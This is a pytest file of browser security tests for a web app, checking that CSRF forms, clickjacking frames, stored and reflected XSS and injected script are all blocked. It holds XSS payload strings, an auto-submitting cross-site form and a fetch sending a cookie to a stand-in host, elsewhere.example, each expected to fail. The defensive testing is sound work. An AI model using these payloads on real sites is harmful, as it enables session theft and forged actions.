"""Attacks on the pages in a real browser: what another site does to somebody who is signed in, and script that got in."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from browser import Window, window
from msgspec.structs import replace
from playwright.sync_api import Browser, Error
from served_pages import HOST, free_port, served_node, served_pages

from comity.demo.build import BuiltRegion
from comity.demo.records import Region
from comity.model.canon import canonical_bytes
from comity.settings import MEMBERS_FILE, read_members
from comity.web.settings import WebSettings
from comity.web.sign_in.access import AccessStore, Passkey
from comity.web.words import words_of

ELSEWHERE = "http://elsewhere.example"
DETECTIVE = "wa-police-detective"
SCRIPT = '"><script>window.stolen=1</script><img src=x onerror="window.stolen=1">'
RAN = "() => window.stolen === undefined ? 'no' : 'yes'"


@pytest.fixture(scope="module")
def site(
    chromium: Browser, region: tuple[Region, BuiltRegion], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The pages of a node whose detective, and a passkey of theirs, are called by a script."""
    place: Path = tmp_path_factory.mktemp("attacks")
    port = free_port()
    settings = WebSettings(address=f"http://localhost:{port}", host=HOST, port=port, demonstration=True)
    with served_node(region[1], "wa-node", place) as node:
        members = tuple(
            replace(one, name=f"Avery {SCRIPT}") if one.id == DETECTIVE else one for one in read_members(node)
        )
        (node / MEMBERS_FILE).write_bytes(canonical_bytes(members))
        key = Passkey(id="key", public_key="key", count=0, name=SCRIPT[:60], added_ms=1)
        AccessStore(node).change(DETECTIVE, lambda one: replace(one, passkeys=(key,)))
        with served_pages(node, settings) as address:
            yield address


def sign_in(at: Window) -> None:
    """As the detective."""
    at.go("/sign-in?next=/questions")
    at.press("Detective", "/questions")


def lure(at: Window, page: str) -> None:
    """Lead the browser to a page of another site."""
    at.page.context.route(ELSEWHERE + "/**", lambda route: route.fulfill(body=page, content_type="text/html"))
    at.page.goto(ELSEWHERE + "/")


@pytest.mark.parametrize("path", ["/sign-out", "/ask", "/my-sign-in/others", "/locked"])
def test_csrf_another_sites_form_does_nothing_to_whoever_is_signed_in(
    chromium: Browser, site: str, path: str
) -> None:
    """It is sent by itself as the page opens; the browser sends no cookie with it, and the member stays where they were."""
    with window(chromium, site, ELSEWHERE) as at:
        sign_in(at)
        sends = f"<form method=post action='{site}{path}'></form><script>document.forms[0].submit()</script>"
        with at.page.expect_response(site + path) as sent:
            lure(at, f"<title>Elsewhere</title>{sends}")
        assert sent.value.status in (303, 403)
        at.go("/questions")
        assert at.page.locator("h1").inner_text() == words_of("en")("questions.title")


def test_clickjacking_another_site_shows_no_page_of_ours_inside_its_own(chromium: Browser, site: str) -> None:
    """The browser refuses the frame, signed in or not."""
    with window(chromium, site, ELSEWHERE) as at:
        sign_in(at)
        lure(
            at, f"<title>Elsewhere</title><iframe src='{site}/questions'></iframe><iframe src='{site}/'></iframe>"
        )
        at.page.wait_for_load_state("networkidle")
        assert len(at.page.frames) == 3
        assert not any("Comity" in frame.content() for frame in at.page.frames[1:])


def test_stored_script_does_not_run_where_a_name_is_shown(chromium: Browser, site: str) -> None:
    """The member's own name in the head of every page, a passkey's name in its list: text, and the page is whole."""
    with window(chromium, site) as at:
        sign_in(at)
        for path in ("/questions", "/my-sign-in"):
            at.go(path)
            assert "<script>window.stolen" in at.page.inner_text("body")
            assert at.page.evaluate(RAN) == "no"
            at.look()


def test_reflected_script_does_not_run_from_an_address_or_a_form(chromium: Browser, site: str) -> None:
    """In a parameter, in the path, and in a field that comes back beside its fault."""
    t = words_of("en")
    with window(chromium, site) as at:
        for path in (f"/sign-in?next={SCRIPT}", f"/no-such-page/{SCRIPT}", f"/?language={SCRIPT}"):
            at.go(path)
            assert at.page.evaluate(RAN) == "no"
        sign_in(at)
        at.press(t("questions.ask"), "/ask/*/reason")
        at.write(t("ask.case"), SCRIPT[:60])
        at.press(t("ask.continue"), "/ask/*/reason")
        at.page.wait_for_selector("#problem")
        assert at.page.get_by_label(t("ask.case"), exact=True).input_value() == SCRIPT[:60]
        assert at.page.evaluate(RAN) == "no"


def test_script_that_got_in_is_stopped_by_the_policy(chromium: Browser, site: str) -> None:
    """Were a value not escaped after all: no text becomes markup or script, and nothing is sent elsewhere."""
    with window(chromium, site) as at:
        sign_in(at)
        with pytest.raises(Error, match="TrustedHTML"):
            at.page.evaluate("() => { document.body.innerHTML = '<b>in</b>'; }")
        added = (
            "() => { const made = document.createElement('script'); made.src = 'http://elsewhere.example/x.js'; }"
        )
        with pytest.raises(Error, match="TrustedScriptURL"):
            at.page.evaluate(added)
        with pytest.raises(Error, match="Failed to fetch"):
            at.page.evaluate("() => fetch('http://elsewhere.example/?cookie')")
        assert at.page.evaluate("() => document.cookie") == ""
        assert any("connect-src" in one for one in at.complaints)
